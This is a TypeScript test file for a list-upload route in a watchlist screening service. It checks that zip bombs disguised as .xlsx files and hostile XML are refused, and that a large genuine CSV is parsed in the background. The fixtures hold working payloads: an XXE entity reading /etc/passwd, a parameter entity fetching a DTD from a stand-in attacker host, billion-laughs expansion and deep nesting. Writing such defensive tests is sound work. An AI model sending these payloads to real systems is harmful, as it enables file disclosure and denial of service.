/**
 * Hostile and heavy list files through the real upload route, as the super admin (decision 0120).
 * An .xlsx zip bomb (800 MB of zeros in an 800 kB file) is refused at once by its declared size;
 * one whose headers lie is refused by the parse worker counting what it inflates. Hostile XML
 * (external and parameter entities, an entity used 20,000 times, a billion laughs, an undeclared
 * entity, 100,000 nested tags) is refused with 422 naming the reason. Nothing of any of them is
 * stored. A genuine 150,000-row CSV is accepted at once (202) and read off the request, and /health
 * answers while it is read. Memory and latency figures are the bench's (`npm run bench --
 * watchlist-upload`), not assertions here.
 */
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { fillTemplate, MSG, ROLES, SC, watchlistUploadReplySchema } from '@kilau/shared';
import { count, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { auditLog, jobs, screeningRuns, watchlistEntries, watchlistVersions } from '../../db/schema';
import { createTestApp, type TestApp } from '../../test/app';
import { nextTestIp } from '../../test/customer';
import { createStaff, generateStaffPassword } from '../staff-auth/staff-accounts';
import { staffSession } from '../staff-mfa/testing/staff-login';
import { XLSX_TOTAL_MAX_BYTES, XML_MAX_DEPTH } from './parsers/limits';
import { postList, readUpload, uploadList } from './testing/upload-list';

const MB = 1024 * 1024;
const refusedFile = (reason: string) => fillTemplate(MSG.watchlistRefusedFile, { reason });
const refusedRow = (row: number, reason: string) =>
  fillTemplate(MSG.watchlistRefusedRow, { row: String(row), reason });

/** An .xlsx-shaped zip whose sheet is `zeroMb` MB of zeros, streamed so the test never holds it. */
async function zeroBomb(zeroMb: number): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  zip.addBuffer(Buffer.from('<?xml version="1.0"?><Types/>'), '[Content_Types].xml');
  const zeros = Buffer.alloc(MB);
  zip.addReadStream(
    Readable.from(
      (function* () {
        for (let i = 0; i < zeroMb; i++) yield zeros;
      })(),
    ),
    'xl/worksheets/sheet1.xml',
  );
  zip.end();
  return buffer(zip.outputStream);
}

/** The same bomb with its central directory declaring 1 kB for the sheet: a header that lies. */
function lyingAboutSize(zip: Buffer): Buffer {
  const out = Buffer.from(zip);
  const directoryEntry = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  for (let at = out.indexOf(directoryEntry); at !== -1; at = out.indexOf(directoryEntry, at + 4)) {
    const nameLength = out.readUInt16LE(at + 28);
    if (out.subarray(at + 46, at + 46 + nameLength).equals(name)) out.writeUInt32LE(1024, at + 24);
  }
  return out;
}

const un = (body: string, prolog = '') =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}<CONSOLIDATED_LIST><INDIVIDUALS><INDIVIDUAL>` +
      `<DATAID>1</DATAID><REFERENCE_NUMBER>QDi.900</REFERENCE_NUMBER>${body}` +
      '</INDIVIDUAL></INDIVIDUALS></CONSOLIDATED_LIST>\n',
  );
const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join(
  '',
);

const ROWS = 150_000;
function bigCsv(): Buffer {
  const lines = ['No;Nama;Terduga;Kode Densus;Tempat Lahir;Tanggal Lahir;WN;Alamat'];
  for (let i = 1; i <= ROWS; i++) {
    lines.push(
      `${i};Peserta Uji Besar ${i} alias Uji ${i};Orang;IDD-${i};Kota Uji;00/00/${1950 + (i % 50)};Indonesia;Jalan Uji Nomor ${i} RT 01 RW 02`,
    );
  }
  return Buffer.from(lines.join('\n'));
}

describe('hostile and heavy list files', () => {
  let t: TestApp;
  let token: string;

  beforeAll(async () => {
    t = await createTestApp({ seed: 'reference' });
    const password = generateStaffPassword();
    await createStaff(t.db, {
      username: 'superbahaya',
      fullname: 'Super Bahaya',
      role: ROLES.superAdmin,
      password,
    });
    token = (await staffSession(t.app, 'superbahaya', password)).token;
  });
  afterAll(async () => t.close());

  const stored = async () => ({
    versions: (await t.db.select({ n: count() }).from(watchlistVersions))[0]?.n,
    entries: (await t.db.select({ n: count() }).from(watchlistEntries))[0]?.n,
    runs: (await t.db.select({ n: count() }).from(screeningRuns))[0]?.n,
    rescreens: (await t.db.select({ n: count() }).from(jobs).where(eq(jobs.type, 'screening.rescreen')))[0]
      ?.n,
  });
  const refusalsAudited = async () =>
    (
      await t.db.select({ n: count() }).from(auditLog).where(eq(auditLog.action, 'watchlist.upload_refused'))
    )[0]?.n ?? 0;

  function expectRefusal(reply: { statusCode: number; body: string; json(): unknown }, message: string) {
    expect(reply.statusCode, reply.body).toBe(422);
    expect(reply.json()).toMatchObject({
      status_code: SC.watchlistRefused,
      err_message_id: message,
      error: [{ field: 'file', message }],
    });
  }

  it('refuses an 800 MB zip bomb in an .xlsx at once, by its declared size, and stores nothing', {
    timeout: 60_000,
  }, async () => {
    const bomb = await zeroBomb(800);
    expect(bomb.length).toBeLessThan(MB);
    const before = await stored();
    const audits = await refusalsAudited();
    const reply = await postList(t, token, 'dttot', { name: 'dttot-bom.xlsx', bytes: bomb });
    expectRefusal(
      reply,
      refusedFile(fillTemplate(MSG.watchlistXlsxTooLarge, { mb: String(XLSX_TOTAL_MAX_BYTES / MB) })),
    );
    expect(await stored()).toEqual(before);
    expect(await refusalsAudited()).toBe(audits + 1);
  });

  it('refuses a zip bomb whose directory lies about its size once the worker counts what it inflates', {
    timeout: 60_000,
  }, async () => {
    const bomb = lyingAboutSize(await zeroBomb(400));
    const before = await stored();
    const { reply, upload } = await uploadList(t, token, 'dttot', { name: 'dttot-bohong.xlsx', bytes: bomb });
    expect(reply.statusCode, reply.body).toBe(202);
    expect(upload).toMatchObject({
      status: 'refused',
      version: null,
      run: null,
      refusal: { row: null, reason: MSG.watchlistXlsxUnsafe, message: refusedFile(MSG.watchlistXlsxUnsafe) },
    });
    expect(await stored()).toEqual(before);
  });

  it.each([
    [
      'an external entity (XXE)',
      un(
        '<FIRST_NAME>&xxe;</FIRST_NAME>',
        '<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
      ),
      refusedFile(MSG.watchlistXmlDoctype),
    ],
    [
      'a parameter entity',
      un(
        '<FIRST_NAME>AMIR</FIRST_NAME>',
        '<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY % remote SYSTEM "http://penyerang.example/x.dtd"> %remote;]>\n',
      ),
      refusedFile(MSG.watchlistXmlDoctype),
    ],
    [
      'an entity used 20,000 times',
      un(
        `<FIRST_NAME>${'&a;'.repeat(20_000)}</FIRST_NAME>`,
        '<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY a "AMIR">]>\n',
      ),
      refusedFile(MSG.watchlistXmlDoctype),
    ],
    [
      'a billion laughs',
      un(
        '<FIRST_NAME>LOL &lol9;</FIRST_NAME>',
        `<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY lol0 "lol">${lols}]>\n`,
      ),
      refusedFile(MSG.watchlistXmlDoctype),
    ],
    [
      'an entity never declared',
      un('<FIRST_NAME>LOL &lol9;</FIRST_NAME>'),
      refusedRow(2, fillTemplate(MSG.watchlistXmlEntity, { name: 'lol9' })),
    ],
    [
      '100,000 nested tags',
      Buffer.from(
        `<?xml version="1.0"?>\n<CONSOLIDATED_LIST>\n${'<A>'.repeat(100_000)}${'</A>'.repeat(100_000)}</CONSOLIDATED_LIST>`,
      ),
      refusedRow(3, fillTemplate(MSG.watchlistXmlTooDeep, { depth: String(XML_MAX_DEPTH) })),
    ],
  ])('refuses XML with %s: 422 naming the reason, nothing stored', async (_what, bytes, message) => {
    const before = await stored();
    const reply = await postList(t, token, 'un', { name: 'un-jahat.xml', bytes });
    expectRefusal(reply, message);
    expect(await stored()).toEqual(before);
  });

  it('accepts a 150,000-row CSV at once and reads it off the request: /health answers meanwhile', {
    timeout: 300_000,
  }, async () => {
    const csv = bigCsv();
    expect(csv.length).toBeGreaterThan(15 * MB);
    const reply = await postList(t, token, 'dttot', { name: 'dttot-besar.csv', bytes: csv });
    expect(reply.statusCode, reply.body).toBe(202);
    const { upload } = watchlistUploadReplySchema.parse(reply.json()).data;
    expect(upload).toMatchObject({ status: 'parsing', file_name: 'dttot-besar.csv', version: null });

    // The queue's worker reads it. Once its job is claimed, the process still answers, and the
    // upload is still being read when it does: the parse is not on the event loop.
    const reading = t.flushJobs();
    const claimed = async () =>
      ((await t.db.select({ attempts: jobs.attempts }).from(jobs).where(eq(jobs.type, 'watchlist.parse')))[0]
        ?.attempts ?? 0) > 0;
    while (!(await claimed())) await new Promise((r) => setTimeout(r, 50));
    for (let i = 0; i < 3; i++) {
      const health = await t.app.inject({ method: 'GET', url: '/health', remoteAddress: nextTestIp() });
      expect(health.statusCode).toBe(200);
      expect((await readUpload(t, token, upload.id)).status).toBe('parsing');
    }
    await reading;

    const done = await readUpload(t, token, upload.id);
    expect(done).toMatchObject({
      status: 'stored',
      refusal: null,
      version: { source: 'dttot', file_format: 'csv', entries: ROWS, individuals: ROWS, added: ROWS },
      run: { trigger: 'list_upload', source: 'dttot' },
    });
  });
});
